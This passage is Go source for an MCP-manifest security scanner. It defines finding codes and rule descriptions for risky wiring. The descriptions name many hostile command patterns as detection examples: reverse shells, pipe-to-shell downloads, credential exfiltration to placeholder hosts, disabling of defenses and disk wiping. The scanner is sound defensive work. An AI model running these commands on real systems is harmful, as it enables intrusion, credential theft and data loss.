package assess

import (
	"sort"

	"github.com/registryd/registryd/registry"
)

// The finding codes. The first sixteen keep lean-ctx's names, levels and
// blocking status; the rest are registryd's own concepts.
const (
	CodeRemoteEndpoint       = "remote_endpoint"
	CodeInsecureURL          = "insecure_url"
	CodeRequestHeaders       = "request_headers"
	CodeShellExec            = "shell_exec"
	CodeFetchExec            = "fetch_exec"
	CodeShellMeta            = "shell_meta"
	CodeUnpinned             = "unpinned"
	CodeChildEnv             = "child_env"
	CodeCapNetUnderdeclared  = "cap_net_underdeclared"
	CodeCapExecUnderdeclared = "cap_exec_underdeclared"
	CodeCapNetOverdeclared   = "cap_net_overdeclared"
	CodeCapExecOverdeclared  = "cap_exec_overdeclared"
	CodePipeToShell          = "pipe_to_shell"
	CodeObfuscatedExec       = "obfuscated_exec"
	CodePersistence          = "persistence"
	CodeEncodedBlob          = "encoded_blob"

	CodeForbiddenEnv        = "forbidden_env"
	CodeInlineCode          = "inline_code"
	CodeUnparsableShell     = "unparsable_shell"
	CodeLiteralSecret       = "literal_secret"
	CodePrivilegeEscalation = "privilege_escalation"
	CodeContainerHostAccess = "container_host_access"
	CodeLoopbackEndpoint    = "loopback_endpoint"
	CodeDocPlaceholder      = "doc_placeholder"
	CodeCommandLine         = "command_line"
	CodeCredentialMount     = "credential_mount"
	CodeCredentialExfil     = "credential_exfil"
	CodeDefenseEvasion      = "defense_evasion"
	CodeInboundAccess       = "inbound_access"
	CodeDataDestruction     = "data_destruction"
	CodeCryptominer         = "cryptominer"
	CodeCredentialDump      = "credential_dump"
	CodeLookalikeName       = "lookalike_name"
)

// ruleTable is the single source of each code's level and blocking status.
var ruleTable = []registry.Rule{
	rule(CodeRemoteEndpoint, registry.LevelDanger, false,
		"The MCP server is a remote HTTP endpoint (or reached over ssh, autossh, mosh, gcloud compute ssh or PsExec, or through a bridge such as mcp-remote, mcp-proxy URL (or its SSE_URL), supergateway --sse, mcpo --server-type sse, ToolHive's thv run URL or FastMCP's fastmcp run URL), or every tool call is posted to a remote host (an http interceptor of Docker's MCP gateway): the context you share leaves your machine.",
		"Prefer a local stdio server; if the endpoint is needed, document who operates it and what it receives."),
	rule(CodeInsecureURL, registry.LevelDanger, true,
		"A URL the wiring connects to or downloads from (the endpoint, an [artifacts] URL, a module a runner fetches, a package registry, index, feed or channel (npm, also as --reg, pip, uv, gem, Bundler's mirrors, NuGet, Cargo, also in cargo --config settings, conda, pixi, coursier, luarocks, cpanm, dub, wasmer, the Maven repositories of clojure -Sdeps), a package, requirements file, gem source or git repository named by its URL, what curl, wget, aria2c, xh or HTTPie's http (whose URLs without a scheme are http://) or Invoke-WebRequest download) is not HTTPS (http://, git://, svn://), or certificate checks are turned off (NODE_TLS_REJECT_UNAUTHORIZED=0, GOINSECURE, GOSUMDB=off, pip --trusted-host, npm --strict-ssl=false, hg --insecure, svn --trust-server-cert, git http.sslVerify=false, GIT_SSL_NO_VERIFY, SSLKEYLOGFILE, a toolchain's or binary's download mirror such as UV_PYTHON_INSTALL_MIRROR over http, kubectl --insecure-skip-tls-verify, docker -H tcp:// or DOCKER_HOST without --tlsverify, podman over tcp://, conda ssl_verify false, curl -k, wget --no-check-certificate, spin up --insecure, aria2c --check-certificate=false, xh --verify=no, Invoke-WebRequest -SkipCertificateCheck, .NET's certificate callbacks replaced in PowerShell, ssh -o StrictHostKeyChecking=no …), so traffic, credentials and downloaded code travel unprotected and can be replaced on the way.",
		"Use https:// URLs: serve the endpoint over https and point mcp.url at it; download artifacts, modules, packages, requirements files and repositories over https (or pin them by hash or commit); leave certificate checks on."),
	rule(CodeRequestHeaders, registry.LevelWarn, false,
		"The HTTP transport sends request headers, which may carry credentials.",
		"Send only the headers the server needs, with secrets as ${VAR} placeholders the user fills in."),
	rule(CodeShellExec, registry.LevelDanger, true,
		"The wiring runs an inline shell script (sh -c, fish -c or -C, nu -c or -e, ansible -m shell or raw, salt's cmd.run, pyinfra exec or server.shell, the commands hyperfine times and its --setup and --prepare lines, a cmd /c line that chains or is written as one string, powershell -Command, npx -c, script -c, a command line an inline program hands to a shell (os.system('…'), subprocess with shell=True, child_process's exec and execSync, system, qx{…} and backquotes, shell_exec, os.execute, io.popen, awk's system and pipes, R's system, AppleScript's do shell script, Elixir's System.shell and :os.cmd, Erlang's os:cmd, Scheme's system and process), a database client's shell escape such as psql \\!, \\o |cmd or \\copy … program, SQL that has a PostgreSQL server run a command line (COPY … FROM PROGRAM or TO PROGRAM, also in a PL/pgSQL body or its EXECUTE strings, a plsh function), mysql system, sqlite3 or duckdb .shell, .sh or .read '|cmd', sed's e command, pnpm exec -c, bun exec, concurrently, nodemon --exec …): arbitrary command execution. What the script runs is judged too, with the variables it starts with ($RUN or eval \"$RUN\" with RUN in [mcp.env], cmd's %RUN%, PowerShell's $env:RUN, what a script exports to the shells it starts, env NAME=value, the words after the script as $0, $1 and \"$@\"), and a program a script names by variables or by strings it adds, joins or formats (X=curl; $X, PowerShell's ('i'+'wr'), -join, -f) is judged as that program. Command lines other programs run for the wiring are judged as scripts too: a variable that holds one (GIT_SSH_COMMAND, PAGER, EDITOR, …_ASKPASS, RSYNC_CONNECT_PROG, KUBECTL_EXTERNAL_DIFF, GH_BROWSER, P4EDITOR), less's +!CMD in LESS, man's pager in MANOPT, ssh's ProxyCommand, the commands git -c sets, go's -toolexec and -exec (also in GOFLAGS), Cargo's rustc wrappers, compilers (RUSTC, RUSTDOC), target runners and linkers (in variables or cargo --config settings), tar's commands in TAR_OPTIONS, the C compilers a build runs (CC, CXX, CPP), what Windows programs start (wmic process call create, forfiles /c, schtasks /tr, sc binPath=, a PowerShell line split into its words as the C runtime splits it; rundll32 shell32.dll,ShellExec_RunDLL, url.dll,FileProtocolHandler and the other entry points that start a program), devbox run's command as the shell devbox hands it to evaluates it, the PowerShell SyncAppvPublishingServer pastes its argument into, the command line Windows Terminal (wt) opens, the interceptors of Docker's MCP gateway (exec runs its command with /bin/sh -c, docker runs its image and words), man's -P or --pager command, strace -o '|cmd' (through a shell), the programs of tcpdump -z, scp -S and sftp -S, sftp -D's server command, and a whole command line an unknown program is given in one word after -e, -x, --execute, --exec or -- (xterm -e 'cmd …'); npm's --node-options are judged as node's own options.",
		"Run the server binary directly with its arguments instead of through a shell."),
	rule(CodeFetchExec, registry.LevelDanger, true,
		"The wiring runs a download or eval primitive (curl, wget, wget2, axel, lwp-download, Invoke-WebRequest, eval, sed's e flag, certutil -urlcache, bitsadmin) that fetches or executes external content, or a program that downloads and runs what it fetches (mshta, hh, regsvr32 /i:, msiexec, cmstp /s, msxsl, PresentationHost or ieexec of a URL, rundll32 dfshim.dll,ShOpenVerbApplication of a ClickOnce URL).",
		"Ship the server as a pinned package or binary and run it directly."),
	rule(CodeShellMeta, registry.LevelWarn, false,
		"A shell reads text of the wiring that chains commands, redirects or substitutes (| ; & $( ) ` > <).",
		"Run one program with plain arguments; move any orchestration into the server itself."),
	rule(CodeUnpinned, registry.LevelWarn, false,
		"A package, module, image or artifact is fetched without an exact version or digest (npx, uvx, deno npm:/jsr:/https: specifiers and import maps, deno install and compile, uv run, groovy, kscript, scala-cli or zx of a script URL, jbang URLs, aliases and coordinates, nix flakes, docker images (also those Docker's MCP gateway is told to run with --servers or --oci-ref, and the catalogs and MCP registry entries it reads from a URL when it starts), the images and the packages ToolHive builds into an image (thv run IMAGE, npx://, uvx://, go://), the images Apptainer or Singularity pulls (docker://, oras://, library://), packages installed or run at start by pip, npm, cargo, gem, dotnet tool install, PowerShell's Install-Module, Install-Script, Install-PSResource or Install-Package (and their Save- and Update- forms) without an exact -RequiredVersion or -Version, conda, pixi, pip-run, coursier, rye, poetry or pdm add, volta, nix profile, luarocks, cpanm, opam or composer require, cabal, stack, nimble or raco pkg install, pipenv install, easy_install, uv add, bundle add, dotnet add package, nuget install, cpan or cpm install, haxelib install, dart or flutter pub global activate, go get of a module path without a version, krew install, mise install and mise use of a registry package, the registry packages mise exec installs, packages downloaded to be installed (npm pack, pip download, pip wheel), project initializers run at start (npm create foo and npm init foo, which run create-foo; yarn, pnpm and bun create), a program or script run from a network share (a UNC path), a server the Smithery CLI runs as its registry lists it (smithery run), a requirements file named by a URL, a git clone of a branch's head, git archive --remote of a branch or tag, the playbooks of ansible-pull and the hooks of pre-commit try-repo without a full commit, a script salt's cmd.script fetches from a URL, and hg clone, svn checkout, gh repo clone and gh extension install of a repository's latest code, a docker build context fetched by its URL, a file system docker import fetches by its URL, a Compose file read from an OCI artifact or a git repository (docker compose -f oci://…, -f https://….git#branch), Kubernetes manifests or a kustomization applied from a URL or a git branch (kubectl apply -f URL, -k github.com/o/r//dir?ref=main, kustomize build), a Helm chart without an exact --version (helm install REPO/CHART, oci://…), a Helm plugin of a git repository at its newest commit or a tag (helm plugin install URL) or of an OCI reference without a digest or version tag, Clojure libraries of -Sdeps at RELEASE, LATEST or a -SNAPSHOT version and tools clojure -Ttools install-latest installs, FastMCP's and the MCP SDK's packages (fastmcp run --with PKG, mcp dev --with PKG) and the MCP Inspector fastmcp dev starts without --inspector-version (mcp dev always), Swift packages Mint builds from a git repository at a branch or tag (mint run owner/repo@1.0), D packages dub run fetches from its registry without an exact version, the flake of devenv --from, Wasmer registry packages wasmer run fetches without an exact version or a hash, and packages it downloads from a URL, Spin applications spin up pulls from an OCI registry without a digest or a version tag, the newest release of a project that eget, ubi, dra or gh release download fetches without a tag, Elixir archives and escripts mix archive.install or escript.install builds from Hex without an exact version, from git or GitHub without a full commit or from a URL without --sha512, kubectl plugins kubectl krew install or upgrade takes from its index or a manifest URL, an [install] package named by a git or URL source, an npm owner/repo shorthand or a third-party Homebrew tap, [artifacts] without sha256), so what runs can change without notice.",
		"Pin an exact version (pkg@1.2.3, pkg==1.2.3, conda's pkg==1.2.3 or pkg=1.2.3=build, name.1.2.3 for opam, vendor/pkg:1.2.3 for composer, pkg-1.2.3 or a fixed --resolver lts-22.3 for cabal and stack, pkg@1.2.3 for nimble, a git source at a full commit for raco, npm:pkg@1.2.3, jsr:@scope/pkg@1.2.3, crate@1.2.3, gem -v 1.2.3, --version 1.2.3, group:artifact:1.2.3, a versioned module URL, image@sha256:…, a full git commit, a flake at one: github:owner/repo/<commit>, a requirements file at a commit's URL, git clone --revision <commit> or a checkout of one after the clone, hg clone -r <changeset>, svn checkout -r <revision>, gh extension install --pin <commit>, a build context at URL#<commit>, mise's npm:pkg@1.2.3, mint run owner/repo@<commit>, dub run pkg@1.2.3, wasmer run ns/pkg@1.2.3, eget --tag v1.2.3 or --verify-sha256 <digest>, ubi and dra --tag v1.2.3, gh release download v1.2.3, mix archive.install hex pkg 1.2.3 or git URL ref <commit>, a local krew --manifest) and give every artifact its sha256; run programs and scripts from a local path, not from a network share; better, declare the package in [install] rather than installing it when the server starts, and name it there as a package of the manager's registry, not a git or URL source or a third-party tap."),
	rule(CodeChildEnv, registry.LevelInfo, false,
		"The wiring passes environment variables to the server process.",
		"Nothing to fix when the variables are needed; keep secrets as placeholders the user fills in."),
	rule(CodeCapNetUnderdeclared, registry.LevelDanger, true,
		"The wiring uses the network but [capabilities] declares network = \"none\".",
		"Declare network = \"full\", or change the wiring so that it needs no network."),
	rule(CodeCapExecUnderdeclared, registry.LevelDanger, true,
		"The wiring spawns subprocesses but [capabilities] grants no exec.",
		"Declare the binaries it runs in exec = [\"…\"], or run the server without a shell."),
	rule(CodeCapNetOverdeclared, registry.LevelInfo, false,
		"[capabilities] declares network = \"full\" but the wiring shows no network use.",
		"Declare network = \"none\" for least privilege, unless the server itself connects out."),
	rule(CodeCapExecOverdeclared, registry.LevelInfo, false,
		"[capabilities] declares exec = \"full\" but the wiring shows no subprocess use.",
		"Declare an explicit list of binaries, or exec = \"none\"."),
	rule(CodePipeToShell, registry.LevelDanger, true,
		"Downloaded or generated text is executed by a shell or interpreter (curl … | sh, curl … | { sh; }, curl … > >(sh), sh <(curl …), python <(curl …), node -e \"$(curl …)\", eval \"$(curl …)\", a file a download tool wrote run as a program, a script or a package to install: curl -o f URL && sh f, a descriptor opened on it or on a download's output (exec 3< f or exec 3< <(curl …); sh <&3, source /dev/fd/3), a shell named by $SHELL, $BASH or /proc/self/exe, a coprocess's output (coproc curl …; sh <&\"${COPROC[0]}\"), a startup or command file (bash --rcfile f, --init-file f, vim -S f or -s f, gdb -x f, emacs -l f or --script f, lldb -s f, tmux -f f or source-file f, screen -c f, ssh -F f, sftp -b f, dc f), a program that runs the commands it reads (curl … | ed, ex, vim -e, dc, ftp, gdb, lldb, script, ssh localhost, sh -c 'sh', gnuplot, lftp, m4, sqlplus, a REPL given options alone such as R --vanilla, erl, ghci, irb or ocaml, pwsh -Command -, jrunscript, gjs, zx, crystal eval or crystal i) or its command file (R -f f, m4 f, gnuplot f, sqlplus @f), a database shell's commands (psql -f f, psql < f, curl … | psql, mysql -e 'source f', sqlite3 db '.read f', sqlite3 or duckdb -init f, duckdb -f f, mongosh f.js), an image or a container definition of a download (docker load -i f, curl … | docker load, docker import f, docker build -f f or of an unpacked context, docker build -, docker compose -f f), git hooks from a downloaded folder (git -c core.hooksPath=DIR, git config core.hooksPath DIR, git clone --template=DIR, init.templateDir), an interpreter's preload (node -r f, --import f, bun or deno --preload f, ruby -rf, perl -I DIR -M MOD, python -m of a downloaded module), java -jar f, dotnet f.dll, rundll32 f,Entry, regsvr32 f, mshta f, wscript or cscript f, msbuild f, installutil f, control f.cpl, Import-Module f, Invoke-Item f, go run f.go, deno run f, pwsh f, awk -f f, sed -f f, make -f f, make -C or make in a folder a downloaded archive was unpacked into, a package installed from a downloaded file or folder (npm install f.tgz, npx f.tgz, pip or uv pip install f.whl, uvx --from f, pipx, gem, dnf, yum, zypper, apk, snap, code --install-extension f.vsix, pip install -e DIR, cargo install --path DIR, npm install, npm start or cargo run in an unpacked folder), a downloaded file loaded through a variable (LD_PRELOAD=f, DYLD_INSERT_LIBRARIES, BASH_ENV, ENV, PYTHONSTARTUP, NODE_OPTIONS=--require f, RUBYOPT=-rf, JAVA_TOOL_OPTIONS=-javaagent:f), curl URL > f; sh f, curl URL | tee f; bash f, wget URL && ./f, sh < f, the file under another name (mv, cp, install, ln, cmd's move, copy and ren, Move-Item, Copy-Item, Rename-Item), the file run by its name from a folder on the search path it was written, moved or unpacked into (curl -o /usr/local/bin/tool URL && tool, export PATH=/tmp/b:$PATH after curl -o /tmp/b/tool, PATH=$PWD/bin:$PATH or $(pwd)/bin after curl -o bin/tool, PATH=… or env PATH=… before the command, cmd's set PATH=…, PowerShell's $env:Path = 'C:\\t;' + $env:Path, = \"C:\\t;$env:Path\" or += ';C:\\t'), iwr -OutFile a.msi; msiexec /i a.msi, certutil -urlcache -f URL a.exe && a.exe, a file or folder copied from another machine or a cloud store and run (aws s3 cp s3://b/srv /tmp/srv && /tmp/srv, gsutil or gcloud storage cp, rclone, azcopy, scp, sftp, rsync, kubectl cp or oc cp out of a pod, gh release download, gh run download, oras pull), a release's executable eget, ubi or dra installed and run (eget owner/repo && ./repo, ubi --project owner/repo && ./bin/repo), curl … | source /dev/stdin, curl … | xargs sh -c, iwr … | iex, cmd's for /f %i in ('curl …') do %i, an inline program's own download and run: exec(urlopen(URL).read()), fetch(URL).then(eval), import('https://…'), eval(URI.open(URL).read), eval get(URL), eval(file_get_contents(URL)), include 'https://…', source('https://…') in R, include(download(URL)) in Julia, load(io.popen('curl …'):read()) in Lua, awk's \"curl …\" | getline printed into sh), downloaded text kept in a variable, an array or a function and run later (X=$(curl …); eval \"$X\", curl … | while read L; do eval \"$L\"; done, mapfile -t L < <(curl …), f() { curl …; }; eval \"$(f)\"), another host's output (eval \"$(ssh HOST cat x)\", sh -c \"$(gh gist view ID --raw)\", gh api), a downloaded file read back as text (sh -c \"$(cat f)\", eval \"$(sed -n 1,20p f)\", bash's $(< f), read L < f; eval \"$L\", xargs -a f sh -c), or a network connection is handed to one (nc -e /bin/sh, socat … EXEC:sh, bash -i >& /dev/tcp/HOST/PORT 0>&1, a descriptor opened on one: exec 3<>/dev/tcp/HOST/PORT; sh <&3, source /dev/fd/3, read L <&3; eval \"$L\", a PowerShell TCPClient whose text runs through iex).",
		"Install a pinned, checksummed package instead of executing fetched text."),
	rule(CodeObfuscatedExec, registry.LevelDanger, true,
		"Encoded text is decoded and executed (base64 -d | sh, powershell -EncodedCommand, exec(b64decode(…)), a base64 data: URL module).",
		"Write the command in plain text so that reviewers and users can read it."),
	rule(CodePersistence, registry.LevelDanger, true,
		"The wiring names or writes a location that runs code at login, at boot or when a program starts (shell rc files, a program's startup file such as ~/.vimrc, nvim's init.lua, ~/.emacs, ~/.gdbinit, ~/.lldbinit, ~/.tmux.conf, ~/.psqlrc, ~/.sqliterc, ~/.Rprofile, ~/.irbrc or Julia's startup.jl, IPython's startup scripts, a .pth file, sitecustomize.py or usercustomize.py in Python's site-packages, PowerShell's profile, LaunchAgents, systemd units, crontab, at jobs, systemd-run timers, pm2 startup, a program put in a folder on the search path such as /usr/local/bin or ~/.local/bin, an MCP server written into an AI client's configuration (smithery install, docker mcp client connect, thv client register or setup, fastmcp install, the MCP SDK's mcp install, install-mcp --client, mcp-get install, add-mcp, Composio's mcp setup, mcpm client edit --add-server), a server added to what every later start of Docker's MCP gateway runs (docker mcp server enable), the hosts file, the resolver's settings or the DNS servers, scheduled tasks, Windows services registered with sc create or given another program with sc config binPath=, autostart), or writes a command into a tool's configuration for every later use (git config --global core.pager, an alias, a hooks directory), or changes where a package tool downloads from or whether it checks certificates in the settings it keeps for the user (npm, pnpm or yarn config set registry, pip config set global.index-url, go env -w GOPROXY, gem sources --add, conda config --add channels, dotnet nuget add source, git config --global url.….insteadOf), or writes a tool's configuration file (the MCP settings of an AI coding tool such as ~/.cursor/mcp.json, claude_desktop_config.json or ~/.claude.json; ~/.npmrc, pip.conf, ~/.gitconfig, ~/.ssh/config, a git hook, .vscode/tasks.json …) or registers an MCP server or an extension with a tool's own command (claude mcp add, code --add-mcp, code --install-extension), whatever it puts there running in every later session.",
		"Remove the startup-location or configuration write; an MCP server is started by its host, not by the system, and leaves the user's tools as it found them (a registry or index the server needs is given to the one command that needs it, such as npx --registry URL)."),
	rule(CodeEncodedBlob, registry.LevelWarn, false,
		"The wiring carries a long base64 or base64url blob whose content a reviewer cannot read.",
		"Pass readable arguments, or reference a file shipped with a pinned package."),
	rule(CodeForbiddenEnv, registry.LevelDanger, true,
		"The wiring sets an environment variable that turns a trusted program into another one (loader, interpreter option such as NODE_OPTIONS or BUN_OPTIONS, a runtime's startup hook such as DOTNET_STARTUP_HOOKS or LUA_INIT, a program's startup commands, rc file or load path such as VIMINIT, PSQLRC, IPYTHONDIR or ERL_LIBS, a launch script's JVM options such as JAVA_OPTS, ANT_OPTS or KAFKA_OPTS, a debugger's startup code such as PERL5DB, GNU make's MAKEFILES, ELECTRON_RUN_AS_NODE, a package or download tool's configuration file such as PIP_CONFIG_FILE, WGETRC or CURL_HOME, a program's configuration or plugin folder that runs commands such as RIPGREP_CONFIG_PATH, LESSKEYIN or DOCKER_CLI_PLUGIN_EXTRA_DIRS, PATH) or selects the user's configuration or credentials (HOME, AWS_PROFILE, KUBECONFIG …); at most 8 per env block are listed.",
		"Remove the variable. A credential or configuration selector (AWS_PROFILE, KUBECONFIG, GOOGLE_APPLICATION_CREDENTIALS, HOME …) is refused by the host that spawns the server, so the manifest would not install: leave it out, and the server reads the user's own profile or file from the user's environment. Pass any other setting as a program argument or a config file of the server."),
	rule(CodeInlineCode, registry.LevelDanger, true,
		"An interpreter runs a program written inline in the wiring (python -c, node -e, bun run -e, perl -e or -M with code (also after -i, -0 or -d, which take no separate value), the program of -e or -c after an option that takes the next word (node --max-old-space-size 4096, elixir --sname n, bb -cp src), R -e, erl -eval, mix run -e, deno eval, dc -e, gnuplot -e, lftp -c, ghci -e, mongosh --eval, jrunscript -e, gjs -c, zx -e, crystal eval, puppet apply -e, chef-apply -e, ipython or jython -c, ecl -eval, clisp -x, csi -e, octave --eval, matlab -batch or -r with more than a script's name, maxima --batch-string, wolframscript -code, pike -e, gforth -e, C# given to PowerShell's Add-Type as source code, rake -e, -E or -p, python -m pdb -c with a statement (import os; …, !stmt, p expr), dotnet script eval, a DO block or function body in an untrusted procedural language that SQL given to psql has the database server run (plpython3u, plperlu …), an awk program, make --eval rules, a data: URL module, expect -c …), also behind a wrapper (uv run python -c, poetry run …, proto run node -- -e, n run 20 -e) or in a command string; so do an editor's or debugger's commands given on its command line (vim -c, emacs --eval, gdb -ex) and script URLs (mshta vbscript:…). The commands such a program runs are judged as well, through a shell (see shell_exec) or as a list of words (subprocess.run([…]), spawn, system2, System.cmd, ProcessBuilder, Groovy's execute, Clojure's sh, Julia's run(`…`), the words of Tcl's exec and Expect's spawn, MATLAB's, Octave's and Scilab's system and unix, Maxima's system, Wolfram's Run, Pike's Process.system, Forth's system, the Lisps' shell and system, jrunscript's exec, GLib's spawn calls and Gio.Subprocess in gjs, zx's $`…`, Crystal's system and Process.run).",
		"Ship the program as a file of a pinned package and run that."),
	rule(CodeUnparsableShell, registry.LevelWarn, true,
		"A shell script, encoded command or wrapper chain of the wiring could not be parsed, or is beyond the analysis limits (8 nested scripts or wrappers, 32 wrappers on one command line, 32 commands read after programs it does not know, 64 nested brackets, 16 KiB per script, 10,000 syntax nodes per audit), or a program is named by a placeholder the user fills in (${SHELL} -c …), so what runs cannot be known.",
		"Use a short, plain script (or none), and name the program the wiring runs: what cannot be analysed cannot be listed."),
	rule(CodeLiteralSecret, registry.LevelDanger, true,
		"The manifest contains a literal credential (URL userinfo other than an ssh URL's user name, a secret query parameter, a token in a header or env value, the value of a program option or a variable named for one such as --api-key or API_KEY=, or a value of a well-known token format such as ghp_…, AKIA…, xoxb-… or sk_live_… anywhere in the wiring).",
		"Revoke the credential and replace it with a ${VAR} placeholder the user fills in (in an argument, pass it through [mcp.env] or the user's environment instead)."),
	rule(CodePrivilegeEscalation, registry.LevelDanger, true,
		"The wiring runs the server with elevated privileges (sudo, doas, su, runas, gsudo, PsExec -s, run0, systemd-run without --user, machinectl shell as root).",
		"Run the server as the invoking user; an MCP server never needs root."),
	rule(CodeContainerHostAccess, registry.LevelDanger, false,
		"A container is started with access to the host (--privileged, host network or pid namespace, a container runtime's socket or state (docker.sock, containerd.sock, /var/lib/docker, docker run --use-api-socket), the host root (also through /proc/1/root), the files that decide who is root (/etc/passwd, /etc/shadow, /etc/sudoers), the SSH server's keys, /boot, the kernel's settings (/proc/sys), capabilities such as SYS_ADMIN or DAC_READ_SEARCH, the host's memory or raw disk devices, a device rule that allows them, SELinux separation turned off (label=disable)), or a pod is given its node (kubectl run --privileged, kubectl debug node/… or --profile=sysadmin, a pod spec given to kubectl run --overrides or thv run --k8s-pod-patch with hostPID, hostNetwork or hostIPC, a privileged container, such a capability or a hostPath volume of such a location).",
		"Drop the host-access flags and mount only the directories the server needs."),
	rule(CodeCredentialMount, registry.LevelDanger, false,
		"A container is given the user's credentials: the wiring mounts a folder or file where programs keep them (~/.ssh, ~/.aws, ~/.kube, ~/.config/gcloud, ~/.azure, ~/.docker, ~/.gnupg, ~/.netrc, a browser's profile, the macOS keychains, Windows' saved credentials …) or the whole home directory, or binds one into an Apptainer or Singularity container (--bind ~/.ssh), or hands such a file or folder over as the container's variables (--env-file ~/.npmrc, ToolHive's --env-file-dir ~/.aws) or Docker's registry logins with its API socket (--use-api-socket), so whatever runs in the container can read them and act as the user.",
		"Mount only the one file the server needs, read-only (a kubeconfig with one context rather than ~/.kube), or pass a scoped credential as a ${VAR} placeholder the user fills in; never mount the home directory, ~/.ssh or ~/.gnupg."),
	rule(CodeCredentialExfil, registry.LevelDanger, true,
		"The wiring sends the user's credentials off the machine: a network client is given a file or folder where programs keep them (~/.ssh, ~/.aws, ~/.netrc, ~/.docker, ~/.config/gh …) or the home directory to post or upload (curl -d @FILE, -F f=@FILE, -T FILE, -H @FILE, wget --post-file), copies one to another host (scp, rsync), is fed one, or the server's whole environment (printenv, env, set, export -p, PowerShell's env: drive), through a pipe or a redirection (| curl -d @-, nc, socat, ssh, Invoke-RestMethod), is given one's content in its command line (curl -d \"$(cat ~/.aws/credentials)\", a DNS name built from it, a variable set from it), or a cloud storage or hosting client uploads one (gh gist create, aws s3 cp, gsutil cp, rclone copy, az storage blob upload, Invoke-WebRequest -InFile); also a copy or archive of one the wiring made first (tar czf /tmp/k.tgz ~/.ssh, cp, zip, cat KEY > FILE, cat KEY | tee FILE, ln -s KEY FILE), a function whose body writes one out (f() { cat KEY; }; f | nc HOST PORT), a variable or array read from one (read K < ~/.netrc, mapfile -t K < KEY), the paths of such files listed and handed on (find ~/.ssh -type f | xargs -I{} curl -F f=@{} URL, ls ~/.ssh/id_* | xargs cat | nc HOST PORT), a relative path read from the folder the script changed into (cd ~/.aws && curl -F f=@credentials URL, cd ~/.ssh && tar cz . | nc HOST PORT; also cmd's cd and pushd, PowerShell's Set-Location and Push-Location), and a credential store read out whole (security dump-keychain, gpg --export-secret-keys, kubectl config view --raw), a cloud machine's metadata service, the clipboard, a process's environment (/proc/PID/environ) or the machine's password hashes (/etc/shadow, reg save HKLM\\SAM), an AI coding tool's MCP settings (with the keys of the servers they list), a shell's history or a project's .env file; a secret a tool prints that no service takes as it is (aws configure get aws_secret_access_key, git credential fill); or a token a tool prints for its own service (gh auth token, gcloud auth print-access-token, az account get-access-token, heroku auth:token, fly auth token) sent to another host or down a raw connection; (also inside a URL whose host is written out: curl https://HOST/$(gh auth token), and in the credentials of a URL another program connects to: git clone https://x:$(gh auth token)@HOST/r, pip install git+https://$(gh auth token)@HOST/r, and in the path of a URL a package tool fetches: pip install https://HOST/$(gh auth token)/x.whl, npm install, kubectl apply -f, deno run), or from a file the wiring wrote it into: gh auth token > /tmp/t; curl -F f=@/tmp/t URL, or one item of a password store (security find-generic-password -w, op read, pass, gopass show, secret-tool lookup, bw get, lpass show, keyring get) sent down a raw connection; either printed by its tool or echoed (echo \"$(gh auth token)\" | nc HOST PORT); or a git credential helper (git -c credential.helper=…, git config, GIT_CONFIG_PARAMETERS) that sends its input, where git writes the user's credentials, off the machine (!curl -d @- URL, !f() { cat | nc HOST PORT; }; f).",
		"Remove it: an MCP server reads the credentials it needs where they are and sends them only to the service they are for, never the files themselves."),
	rule(CodeDefenseEvasion, registry.LevelDanger, true,
		"The wiring turns a protection of the machine off: Microsoft Defender (Set-MpPreference -Disable…, an -ExclusionPath, its service stopped, AMSI reached into from PowerShell), the firewall (netsh advfirewall … state off, Set-NetFirewallProfile -Enabled False, ufw disable, iptables -F or -P INPUT ACCEPT, nft flush ruleset, firewalld stopped), SELinux (setenforce 0), AppArmor, the audit daemon, macOS Gatekeeper (spctl --master-disable; xattr -d com.apple.quarantine) or System Integrity Protection (csrutil disable).",
		"Remove it: an MCP server runs with the machine's protections on, and never changes them."),
	rule(CodeInboundAccess, registry.LevelDanger, true,
		"The wiring opens a way into this machine from outside: a tunnel that publishes a local port on the internet (ngrok, cloudflared tunnel, localtunnel, bore, tailscale funnel, zrok share, devtunnel host, mcpm share, also run through a package runner as npx ngrok or uvx pyngrok), ssh's reverse forwarding (-R, -o RemoteForward), a shared terminal (tmate), a remote-access tunnel (code tunnel), a web server of the working directory on every interface (python -m http.server), a container's port published on every interface or another address than loopback (docker run -p 8000:8000, -P), or a server that hands this machine or the MCP server to whoever connects (an MCP bridge offering the server over HTTP beyond loopback: mcpo by default, supergateway --stdio and the npm mcp-proxy without --host, spin up --listen 0.0.0.0:3000, Docker's MCP gateway with --port and its token check off (DOCKER_MCP_IN_CONTAINER=1), mcp-proxy --host 0.0.0.0, ToolHive's proxy with thv run --host 0.0.0.0, fastmcp run --transport http --host 0.0.0.0; a debugger listening beyond loopback such as node --inspect=0.0.0.0, python -m debugpy --listen 0.0.0.0:5678, a jdwp agent at *:5005, dlv --headless --listen=:2345 or gdbserver :1234, a terminal in a web page such as ttyd or gotty, websocketd, sshd, a VNC server, Jupyter or code-server bound beyond loopback, php -S, http-server, busybox httpd or python -m uploadserver on every interface), or the MCP Inspector's proxy, which starts any command a request names, without its token check (a version before 0.14.1, DANGEROUSLY_OMIT_AUTH, or the token written into the wiring as MCP_PROXY_AUTH_TOKEN), so that any web page the user opens can run commands here, or a Chromium-based browser's DevTools port bound beyond loopback or open to every web page's origin (chrome --remote-debugging-port=9222 --remote-debugging-address=0.0.0.0, --remote-allow-origins=*), or Playwright's MCP server serving its browser tools beyond loopback (npx @playwright/mcp --port 8931 --host 0.0.0.0)).",
		"Remove it: an MCP server talks to its host on this machine, and opens no way in from elsewhere; a container's port it needs is published on loopback only (-p 127.0.0.1:8000:8000), and a debugger listens on loopback (each one's default) or not at all."),
	rule(CodeDataDestruction, registry.LevelDanger, true,
		"The wiring destroys data: it deletes the user's home directory, the user's own files (~/Documents, ~/Desktop, ~/Downloads, a synced OneDrive or Dropbox folder) or every program's settings (~/.config, ~/Library, AppData), the root of a file system, a system folder or where the user's credentials are kept (rm -rf ~, rm -rf /, del /s C:\\*, rd /s %USERPROFILE%, Remove-Item -Recurse $HOME, find ~ -delete, rm ~/.ssh/id_ed25519), overwrites them (shred), wipes, formats or repartitions a disk (dd of=/dev/sda, mkfs, wipefs, sgdisk --zap-all, diskutil eraseDisk, format D:, Clear-Disk, a redirection into /dev/sda), or deletes what the machine keeps to recover (vssadmin delete shadows, wmic shadowcopy delete, wbadmin delete, bcdedit recoveryenabled no, tmutil delete).",
		"Remove it: an MCP server keeps to its own files and never deletes the user's, the system's or a disk."),
	rule(CodeCredentialDump, registry.LevelDanger, true,
